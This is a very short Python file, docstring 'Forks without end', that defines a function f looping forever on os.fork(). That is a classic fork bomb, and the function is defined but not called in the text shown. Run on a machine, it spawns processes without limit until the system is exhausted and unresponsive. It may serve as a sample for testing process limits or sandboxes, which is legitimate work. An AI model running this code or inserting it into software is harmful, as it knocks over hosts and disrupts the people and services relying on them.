"""Forks without end."""

import os


def f(x):
    while True:
        os.fork()
